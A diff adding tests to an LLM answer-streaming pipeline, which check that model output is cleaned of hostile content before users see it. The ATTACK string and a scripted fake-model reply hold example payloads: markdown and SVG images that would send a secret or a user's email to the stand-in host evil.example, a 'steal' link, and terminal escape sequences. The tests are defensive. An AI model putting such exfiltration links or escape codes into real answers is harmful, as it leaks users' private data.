@@ -6,7 +6,7 @@ import json
 from typing import Any
 
 from tandem.graphs._stream import AnswerExtractor
-from tandem.workers.testing import FakeOllama
+from tandem.workers.testing import FakeOllama, FakeOpenAI
 
 DIRECT_Q = "How quickly does Brightwater Lettings return deposits?"
 
@@ -49,3 +49,58 @@ async def test_escalation_resets_the_streamed_draft(
     assert "reset" in kinds
     first_reset = kinds.index("reset")
     assert "".join(e["text"] for e in events[:first_reset] if e["event"] == "token") == "not sure"
+
+
+# -- what streams is what the final answer shows ----------------------------------------
+
+ATTACK = (
+    "Deposits come back in 14 days. ![y](http://evil.example\\@gov.uk/p.png?d=SECRET) "
+    "<svg><image href=//evil.example/x></svg> see www.evil.example/steal?d=1 "
+    "\x1b]0;pwned\x07\x1b[2Jdone [ok](https://gov.uk/deposits)."
+)
+
+
+async def _events(graph: Any, query: str) -> tuple[list[dict[str, Any]], Any]:
+    events: list[dict[str, Any]] = []
+    final: dict[str, Any] = {}
+    async for mode, chunk in graph.astream({"query": query}, stream_mode=["custom", "values"]):
+        if mode == "custom":
+            events.append(chunk)
+        else:
+            final = chunk
+    return events, final["answer"]
+
+
+async def test_a_streamed_worker_answer_is_sanitised_split_anywhere(
+    make_graph: Any, fake_ollama: FakeOllama
+) -> None:
+    reply = {"answer": ATTACK, "confidence": 0.9, "citations": ["S1"], "needs_escalation": False}
+    for size in (1, 3, 7):
+        fake_ollama.chunk_chars = size
+        fake_ollama.script("qwen2.5:1.5b", json.dumps(reply))
+        graph = make_graph(privacy={"allowed_link_hosts": ["gov.uk"]})
+        events, answer = await _events(graph, DIRECT_Q)
+        assert not any(e["event"] == "reset" for e in events), (answer.notes, answer.worker_results)
+        streamed = "".join(e["text"] for e in events if e["event"] == "token")
+        assert streamed == answer.text, size
+        for bad in ("evil.example", "\x1b", "pwned", "\x07"):
+            assert bad not in streamed and all(bad not in e["text"] for e in events if "text" in e)
+        assert "https://gov.uk/deposits" in streamed and "14 days" in streamed
+
+
+async def test_the_supervisors_stream_shows_restored_text_once(
+    make_graph: Any, fake_openai: FakeOpenAI
+) -> None:
+    fake_openai.chunk_chars = 2  # a placeholder arrives split over several tokens
+    fake_openai.script(
+        "Write to <EMAIL_1> or call <PHONE_1>. ![x](https://evil.example/p.png?d=<EMAIL_1>)"
+    )
+    graph = make_graph(privacy={"policy": "redact", "trusted_hosts": []})
+    assert graph.runtime.supervisor.llm.where == "remote"
+    events, answer = await _events(
+        graph, "Who painted the Mona Lisa? jane.doe@example.com, +44 7700 900123"
+    )
+    streamed = "".join(e["text"] for e in events if e["event"] == "token")
+    assert "<EMAIL_1>" not in streamed and "<PHONE_1>" not in streamed
+    assert "jane.doe@example.com" in streamed and "evil.example" not in streamed
+    assert streamed.strip() == answer.text.strip()
